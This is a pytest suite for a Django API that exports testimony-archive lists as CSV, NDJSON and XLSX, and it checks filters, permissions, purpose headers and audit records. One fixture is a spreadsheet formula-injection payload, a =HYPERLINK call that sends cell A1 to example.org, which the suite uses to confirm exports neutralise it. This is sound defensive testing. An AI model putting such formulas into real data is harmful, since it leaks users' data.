"""`?format=` of the lists: everything that pages show, as one file, for a purpose where it is more than public."""

import csv
import gzip
import io
import json

import openpyxl
import pytest

from testimonies.access import Tier
from testimonies.api.v1.testimonies import TestimonyViewSet
from testimonies.models import Export
from testimonies.selectors import columns, exports
from testimonies.services import exports as services
from testimonies.values.cells import original, parted
from tests import factories as make
from tests.api.answers import errors

pytestmark = pytest.mark.django_db
URL = "/api/v1/testimonies/"
WHY = {"Export-Purpose": "Invented: to see what comes out."}
HOSTILE = '=HYPERLINK("https://example.org/?"&A1; "x")'


def make_records():
    with make.batch():
        book = make.make_codebook(slug="invented-book")
        code = make.make_code(codebook=book, slug="invented-code")
        for number in range(7):
            person = make.make_person(gender=("male", "female")[number % 2], nationality="SY" if number else None)
            make.make_testimony(
                person=person,
                title=HOSTILE if number == 3 else f'Invented {number}: عين, "quoted"\nand a line',
                codes=[code] if number % 2 else [],
                content_warnings=["killing", "torture"] if number == 1 else [],
                texts=[f"Invented words of {number}."],
                tier=(Tier.PUBLIC, Tier.PUBLIC, Tier.PARTNER, Tier.RESTRICTED)[number % 4],
            )


@pytest.fixture(scope="module", autouse=True)
def made(keep):
    keep(make_records)


def export(api, style, path=URL, headers=WHY, **parameters):
    response = api.get(path, {**parameters, "format": style}, headers=headers)
    assert response.status_code == 200, response.content
    return response


def listed(api, path=URL, **parameters):
    return [item for page in api.pages(path, **parameters) for item in page["results"]]


def lines(response):
    return [json.loads(line) for line in response.content.decode().splitlines()]


def rows(response):
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


LISTS = (
    "testimonies", "persons", "sources", "groups", "collections", "figures", "codebooks", "codes",
)  # fmt: skip
STAFF_LISTS = ("same-person-links", "corrections", "assignments", "codings", "decisions")


@pytest.mark.parametrize("role", ["anonymous", "public", "reader", "coder", "editor"])
@pytest.mark.parametrize("segment", LISTS)
def test_an_export_has_what_the_pages_have(api, role, segment):
    client, path = api.as_(role), f"/api/v1/{segment}/"
    assert lines(export(client, "ndjson", path)) == listed(client, path, page_size=2)
    assert len(rows(export(client, "csv", path))) == len(listed(client, path))


@pytest.mark.parametrize("segment", STAFF_LISTS)
def test_so_do_the_lists_of_staff(api, segment):
    client, path = api.as_("editor"), f"/api/v1/{segment}/"
    assert lines(export(client, "ndjson", path)) == listed(client, path)
    assert rows(export(client, "csv", path)) == []


@pytest.mark.parametrize("below", ["texts", "citations", "history", "clearances", "claims"])
def test_so_do_the_lists_below_a_record(api, below):
    client = api.as_("editor")
    path = f"{URL}{listed(client)[0]['id']}/{below}/"
    assert lines(export(client, "ndjson", path)) == listed(client, path)


@pytest.mark.parametrize(
    "parameters",
    [
        {"gender": "female"},
        {"ordering": "title"},
        {"ordering": "-given,title"},
        {"code": "invented-code", "gender": ["male", "female"]},
        {"q": "invented"},
        {"q": "invented", "ordering": "relevance"},
        {"q": "invnted"},
        {"q": "nothing like it"},
        {"nationality": "DE"},
    ],
    ids=str,
)
def test_filters_order_and_search_are_those_of_the_list(api, parameters):
    """With the passages that a search found, and with what is offered where it finds nothing."""
    found = lines(export(api, "ndjson", **parameters))
    assert found == listed(api, **parameters)
    assert [row["id"] for row in rows(export(api, "csv", **parameters))] == [item["id"] for item in found]


def test_more_than_one_batch_comes_in_order(api, monkeypatch):
    monkeypatch.setattr(exports, "AT_A_TIME", 2)
    assert lines(export(api, "ndjson", ordering="title")) == listed(api, ordering="title")


def test_lines_are_the_stored_documents(api):
    """Byte for byte: nothing is read and written again."""
    pages = api.get(URL).content
    assert all(line in pages for line in export(api, "ndjson").content.splitlines())


# --- Tables --------------------------------------------------------------------------------------------------------------


def test_columns_are_the_same_for_every_row_and_for_none(api):
    heads = [
        export(api, "csv", **parameters).content.decode("utf-8-sig").partition("\r\n")[0]
        for parameters in ({}, {"nationality": "DE"}, {"gender": "female"})
    ]
    assert len({*heads}) == 1
    assert heads[0].split(",")[:4] == ["id", "ref", "updated_at", "title"]
    assert {"person.gender", "person.id", "codes", "missing", "cleared_for", "snippets"} <= {*heads[0].split(",")}


def test_a_cell_says_what_the_document_says(api):
    client = api.as_("editor")
    found = {item["id"]: item for item in listed(client)}
    for row in rows(export(client, "csv")):
        item = found[row["id"]]
        assert original(row["title"]) == item["title"]
        assert row["person.gender"] == item["person"]["gender"]
        assert row["person.nationality"] == (item["person"]["nationality"] or "")
        assert parted(row["codes"]) == [f"{c['codebook']}@{c['version']}/{c['slug']}" for c in item["codes"]]
        assert parted(row["missing"]) == [f"{one['field']}={one['reason']}" for one in item["missing"]]
        assert parted(row["content_warnings"]) == item["content_warnings"]
        assert row["age_from"] == ("" if item["age_from"] is None else str(item["age_from"]))


def test_what_a_spreadsheet_would_run_is_harmless_and_comes_back(api):
    titles = [row["title"] for row in rows(export(api.as_("editor"), "csv"))]
    assert f"'{HOSTILE}" in titles
    assert HOSTILE not in titles


def test_a_workbook_reads_like_the_table(api):
    client = api.as_("editor")
    head, *found = openpyxl.load_workbook(io.BytesIO(export(client, "xlsx").content), read_only=True).active.iter_rows(
        values_only=True
    )
    table = rows(export(client, "csv"))
    assert list(head) == list(table[0])
    shown = [{name: "" if cell is None else str(cell) for name, cell in zip(head, row, strict=True)} for row in found]
    assert shown == table
    assert all(isinstance(dict(zip(head, row, strict=True))["age_from"], int) for row in found)


def test_more_rows_than_a_sheet_has_are_refused_before_anything_is_sent(api, monkeypatch):
    monkeypatch.setattr("testimonies.values.sheets.MOST_ROWS", 3)
    assert export(api, "xlsx", gender="female").status_code == 200
    assert errors(api.get(URL, {"format": "xlsx"})) == [("format", "too_many_rows")]


def test_columns_of_every_list_are_named_once():
    for shape in (TestimonyViewSet.item, TestimonyViewSet.shape):
        names = [column.name for column in columns.of(shape)]
        assert len(names) == len({*names}) > 30


# --- What is refused -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("parameters", "faults"),
    [
        ({"format": "pdf"}, [("format", "unknown_value")]),
        ({"format": "csv,xlsx"}, [("format", "unknown_value")]),
        ({"format": ["csv", "csv"]}, [("format", "repeated")]),
        ({"format": "csv", "page_size": "5"}, [("page_size", "not_with_format")]),
        (
            {"format": "csv", "count": "exact", "cursor": "x"},
            [("cursor", "not_with_format"), ("count", "not_with_format")],
        ),
        ({"format": "csv", "natoinality": "SY"}, [("natoinality", "unknown_parameter")]),
        ({"format": "csv", "status": "draft"}, [("status", "unknown_parameter")]),
    ],
    ids=str,
)
def test_what_does_not_fit_is_refused(api, parameters, faults):
    assert sorted(errors(api.get(URL, parameters))) == sorted(faults)


def test_citations_are_only_of_what_can_be_cited(api):
    assert errors(api.get("/api/v1/persons/", {"format": "ris"})) == [("format", "unknown_value")]


@pytest.mark.parametrize("style", ["csv", "xlsx", "ndjson", "ris"])
@pytest.mark.parametrize("role", ["reader", "coder", "editor", "custodian"])
@pytest.mark.parametrize(
    "purpose", [None, "", "too short", "x" * 501, "invented\x07 purpose", b"\xff\xfe invented".decode("latin-1")]
)
def test_above_public_a_purpose_is_needed(api, role, style, purpose):
    headers = {} if purpose is None else {"Export-Purpose": purpose}
    response = api.as_(role).get(URL, {"format": style}, headers=headers)
    assert (response.status_code, response.json()["code"]) == (400, "purpose_required")
    assert not Export.objects.exists()


@pytest.mark.parametrize("role", ["anonymous", "public"])
def test_what_is_public_needs_none_and_is_not_recorded(api, role):
    assert export(api.as_(role), "ndjson", headers={}).content
    assert export(api.as_(role), "ndjson", headers=WHY).content
    assert not Export.objects.exists()


def test_pages_need_none(api):
    assert api.as_("editor").get(URL, {"format": "json"}).json()["results"]
    assert not Export.objects.exists()


# --- What is recorded ------------------------------------------------------------------------------------------------------


def test_what_was_taken_is_recorded_without_the_words_it_was_chosen_by(api):
    purpose = "Erfunden: für eine Übersicht"
    headers = {"Export-Purpose": purpose.encode().decode("latin-1")}
    response = export(api.as_("reader"), "csv", headers=headers, q="invented secret OR invented", gender="male")
    (record,) = Export.objects.all()
    assert (record.resource, record.format, record.tier, record.purpose) == (
        "testimonies",
        "csv",
        Tier.PARTNER,
        purpose,
    )
    assert record.parameters == ["gender", "q"]
    assert (record.state, record.n_records, record.n_downloads) == ("finished", len(rows(response)), 1)
    assert record.key_name.startswith("invented reader")
    assert record.ended_at >= record.at
    assert "secret" not in str(Export.objects.values().get())


def test_a_head_takes_nothing(api):
    response = api.as_("editor").head(URL, {"format": "csv"}, headers=WHY)
    assert (response.status_code, response.content) == (200, b"")
    assert response.headers["Content-Disposition"] == 'attachment; filename="testimonies.csv"'
    assert not Export.objects.exists()


def test_a_file_is_kept_by_nobody_on_the_way(api):
    response = export(api.as_("editor"), "csv")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert "ETag" not in response.headers


def test_a_file_is_compressed_on_the_way(api):
    plain = export(api, "ndjson").content
    response = api.get(URL, {"format": "ndjson"}, headers={"Accept-Encoding": "gzip"})
    assert response.headers["Content-Encoding"] == "gzip"
    assert gzip.decompress(response.content) == plain


# --- One that does not come to its end -----------------------------------------------------------------------------------------


@pytest.fixture
def editor(actors):
    return actors["editor"]


def begun(by):
    return services.begin("testimonies", "ndjson", [], "request", by=by, purpose=WHY["Export-Purpose"])


def test_whoever_goes_away_leaves_a_place_and_a_note(editor):
    def file(count):
        count(3)
        yield b"first"
        raise AssertionError("nobody asks for more")

    record = begun(editor)
    pieces = services.send(file, lambda: record, by=editor)
    assert next(pieces) == b"first"
    pieces.close()
    record.refresh_from_db()
    assert (record.state, record.n_records) == ("abandoned", 3)
    assert list(services.send(lambda _: iter_of(b"again"), by=editor)) == [b"again"]


def iter_of(*pieces):
    yield from pieces


def test_what_breaks_off_does_not_look_whole(editor):
    def file(_):
        yield b'{"id": 1}\n'
        raise RuntimeError("invented secret")

    record = begun(editor)
    found = b"".join(services.send(file, lambda: record, by=editor, broken_off=exports.BROKEN_OFF["ndjson"]))
    record.refresh_from_db()
    assert record.state == "failed"
    with pytest.raises(json.JSONDecodeError):
        [json.loads(line) for line in found.splitlines()]


def test_what_cannot_begin_is_a_problem(api, monkeypatch):
    """Nothing has been said yet when the first rows are asked for."""
    given = exports.stream

    def slow(statement, **options):
        return given(statement._replace(text=f"SELECT pg_sleep(9)::text FROM ({statement.text}) x"), **options)

    monkeypatch.setattr(exports, "stream", slow)
    monkeypatch.setattr("django.conf.settings.EXPORT_TIMEOUT", 1)
    for style in ("ndjson", "csv", "xlsx"):
        response = api.as_("editor").get(URL, {"format": style}, headers=WHY)
        assert (response.status_code, response.json()["code"]) == (503, "too_slow")
    assert {*Export.objects.values_list("state", flat=True)} == {"failed"}


def test_nobody_takes_all_places(editor, actors, settings):
    settings.EXPORTS_AT_ONCE = 2
    first = services.send(lambda _: iter_of(b"1", b"2"), by=editor)
    other = services.send(lambda _: iter_of(b"1", b"2"), by=actors["reader"])
    next(first)
    for by in (editor, actors["coder"]):  # one each; here all of one account
        with pytest.raises(services.TooManyExports):
            next(services.send(lambda _: iter_of(b"1"), by=by))
    first.close()
    assert next(other) == b"1"
    other.close()
